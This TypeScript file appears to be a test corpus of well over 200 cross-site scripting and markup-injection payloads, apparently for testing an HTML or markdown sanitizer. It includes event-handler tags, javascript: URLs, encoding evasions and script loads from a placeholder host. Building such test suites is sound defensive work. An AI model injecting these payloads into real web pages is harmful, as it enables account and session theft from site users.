/** Sets a mark on the page that it runs in. */
const RUN = 'window.__xss=1';
const LOAD = 'https://xss.invalid/';

const TAGS = [
  'img src=x', 'svg', 'iframe', 'video src=x', 'audio src=x', 'body', 'input autofocus', 'select autofocus', 'textarea autofocus', 'details open', 'marquee', 'math', 'object data=x', 'embed src=x',
  'video><source src=x', 'a href=# autofocus', 'button autofocus', 'table background=x', 'x tabindex=1 autofocus', 'style', 'isindex type=image src=1', 'svg><animate attributeName=x dur=1s', 'custom-element',
];
const EVENTS = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onbegin', 'onanimationstart', 'onpointerover'];

/** Well over 200 texts that would run, load or break out somewhere if they were ever taken for anything but text. */
export const CORPUS: readonly string[] = [
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${RUN}>`)),
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script src=${LOAD}x.js></script>`, `<script/x>${RUN}</script>`, `<scr<script>ipt>${RUN}</script>`, `</script><script>${RUN}</script>`,
  `<script type=module>${RUN}</script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`, `<![CDATA[<script>${RUN}</script>]]>`, `<!--<img src="--><img src=x onerror=${RUN}//">`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="javascript:${RUN}"></iframe>`, `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`, `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`, `<form action="javascript:${RUN}"><button autofocus>x</button></form>`, `<button formaction="javascript:${RUN}">x</button>`, `<a href="javascript:${RUN}">x</a>`,
  `<a href="jAvAsCrIpT:${RUN}">x</a>`, `<a href="java\tscript:${RUN}">x</a>`, `<a href="java\nscript:${RUN}">x</a>`, `<a href=" javascript:${RUN}">x</a>`, `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`, `<base href="${LOAD}">`, `<link rel=stylesheet href="${LOAD}x.css">`, `<link rel=prefetch href="${LOAD}x">`, `<meta http-equiv=refresh content="0;url=${LOAD}">`,
  `<style>@import '${LOAD}x.css';</style>`, `<style>*{background:url(${LOAD}x)}</style>`, `<div style="background:url(${LOAD}x)">x</div>`, `<img src="${LOAD}x.png">`, `<img srcset="${LOAD}x.png 1x">`,
  `<picture><source srcset="${LOAD}x"><img></picture>`, `<video poster="${LOAD}x"></video>`, `<svg><image href="${LOAD}x"/></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><script>${RUN}</script></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`, `<svg><foreignObject><iframe onload=${RUN}></foreignObject></svg>`, `<svg/onload=${RUN}>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`, `<div onclick=${RUN} style="position:fixed;inset:0">x</div>`, `{{constructor.constructor('${RUN}')()}}`, `{{ ${RUN} }}`, `\${${RUN}}`, `<%= ${RUN} %>`, `#{${RUN}}`,
  `[x](javascript:${RUN})`, `[x](JaVaScRiPt:${RUN})`, `[x](java&#115;cript:${RUN})`, `[x](data:text/html,<script>${RUN}</script>)`, `[x](vbscript:${RUN})`, `[x]( javascript:${RUN})`, `[x](<javascript:${RUN}>)`,
  `![x](${LOAD}x.png)`, `![x](javascript:${RUN})`, `![x](${LOAD}"onerror="${RUN})`, `[x](${LOAD} "onmouseover=${RUN}")`, `[x]: javascript:${RUN}`, `[x][y]\n\n[y]: javascript:${RUN}`, `<javascript:${RUN}>`,
  `javascript:${RUN}`, `javascript://example.com/%0a${RUN}`, `[<img src=x onerror=${RUN}>](https://example.com)`, `\`<img src=x onerror=${RUN}>\``, `~~~\n<img src=x onerror=${RUN}>\n~~~`, `# <img src=x onerror=${RUN}>`,
  `> <img src=x onerror=${RUN}>`, `1. <img src=x onerror=${RUN}>`, `&lt;img src=x onerror=${RUN}&gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `\\u003cimg src=x onerror=${RUN}\\u003e`, `%3Cimg src=x onerror=${RUN}%3E`,
  `<img src=x onerror\u000b=${RUN}>`, `<img\u00a0src=x\u00a0onerror=${RUN}>`, `＜img src=x onerror=${RUN}＞`, `\u202e>1=ssx__.wodniw=rorreno x=crs gmi<`, `" onmouseover="${RUN}`, `' onmouseover='${RUN}`,
  `\` onmouseover=${RUN}`, `" style="animation-name:x" onanimationstart="${RUN}`, `" autofocus onfocus="${RUN}`, `</style><img src=x onerror=${RUN}>`, `<plaintext>`, `<xmp><img src=x onerror=${RUN}></xmp>`,
];
